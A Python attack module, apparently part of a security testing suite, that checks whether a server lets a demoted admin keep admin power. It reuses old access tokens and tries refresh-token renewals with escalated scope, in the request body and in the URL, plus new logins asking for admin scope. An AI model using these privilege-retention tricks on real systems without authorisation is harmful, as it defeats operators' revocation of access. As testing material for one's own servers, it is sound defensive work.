"""Go on as an admin when you are none any more.

Exploits a server that asks for the role when it gives out a token, and never again. The operator
takes the role back; the token still says what its user was allowed when it was made, or a renewal
says so once more.
Source: CWE-613 Insufficient Session Expiration,
https://cwe.mitre.org/data/definitions/613.html
ASVS: 8.3.2
"""

from collections.abc import Iterator

import httpx

from attacks.lab.attack import attack
from attacks.lab.outcome import Outcome, breakdown, got_in, judge
from attacks.lab.roles import ADMIN, ALL, deeds, enrol_admin, give_role, list_users, power_of
from attacks.lab.scopes import in_the_url
from attacks.lab.target import NotApplicableError, Person, Target

RENEWALS = {"without a word": {}, "for all": {"scope": ALL}, "for the power": {"scope": ADMIN}}


def tricks(target: Target, former: Person, kept: list[str]) -> Iterator[tuple[str, httpx.Request]]:
    """Ask for new tokens, with the refresh tokens of an admin and with the password."""
    for (wish, fields), token in zip(RENEWALS.items(), kept, strict=False):
        yield f"renewed {wish}", target.refresh_request(token, fields)
    for token in kept[len(RENEWALS) :]:
        yield "renewed for all in the address", in_the_url(target.refresh_request(token), ALL)
    for scope in (ALL, ADMIN):
        log_in = target.login_request(former.username, former.password, scope=scope)
        yield f"a new log-in for {scope}", log_in


@attack()
def run(target: Target) -> Outcome:
    """Log in as an admin, whom the operator demotes; use the old tokens, and ask for new ones."""
    former, other = enrol_admin(target), target.enrol()
    before = [target.tokens_of(former, scope=ALL) for _ in (*RENEWALS, "in the address")]
    old = before[0]["access_token"]
    if not list_users(target, old).is_success:
        raise NotApplicableError("an admin lists no users here")
    give_role(target, former, "user")
    answers = {f"the old token: {deed}": it for deed, it in deeds(target, old, other).items()}
    outcome = judge(answers)
    if outcome.result.is_harm:
        return outcome
    kept = [tokens["refresh_token"] for tokens in before if tokens.get("refresh_token")]
    for trick, request in tricks(target, former, kept):
        answer = answers[trick] = target.http.send(request)
        if answer.is_success and (power := power_of(target, answer.json(), other)):
            return got_in(f"{trick}: {power}")
    return breakdown(answers, f"{len(answers)} tries with what an admin had: no power is left")
